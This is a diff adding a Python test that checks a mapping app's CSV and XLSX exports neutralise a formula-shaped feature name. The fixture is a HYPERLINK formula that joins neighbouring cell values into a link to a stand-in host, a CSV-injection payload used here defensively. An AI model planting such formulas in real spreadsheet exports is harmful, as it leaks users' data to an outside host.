@@ -3,6 +3,7 @@ at a date, Chinese text surviving export → import through the API for every fo
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from urllib.parse import unquote
@@ -102,3 +103,20 @@ def test_refusals(app, client, anonymous, bins):
     assert planner.get("/api/layers/bins/export?format=kml").status_code == 200
     entries = [e for e in app.extensions["store"].audit_log() if e["action"] == "data.export"]
     assert entries and entries[0]["actor"] == "p1" and entries[0]["detail"]["format"] == "kml"
+
+
+FORMULA = '=HYPERLINK("http://x/?"&B2&C2,"点击查看照片")'
+
+
+def test_text_shaped_like_a_formula_stays_text_in_csv_and_xlsx(client):
+    feature = {"type": "Feature", "properties": {"name": FORMULA, "status": "ok"},
+               "geometry": {"type": "Point", "coordinates": [113.3, 23.1]}}  # fmt: skip
+    assert client.post("/api/layers/bins/features", json=feature).status_code == 201
+    rows = list(csv.reader(io.StringIO(client.get("/api/layers/bins/export?format=csv").data.decode("utf-8-sig"))))
+    assert rows[1][rows[0].index("name")] == "'" + FORMULA  # an apostrophe: Excel shows text, never runs it
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(client.get("/api/layers/bins/export?format=xlsx").data)).active
+    names = [c.value for c in sheet[1]]
+    cell = sheet.cell(row=2, column=names.index("name") + 1)
+    assert cell.data_type == "s" and cell.value == FORMULA  # a string cell, kept whole, not a formula
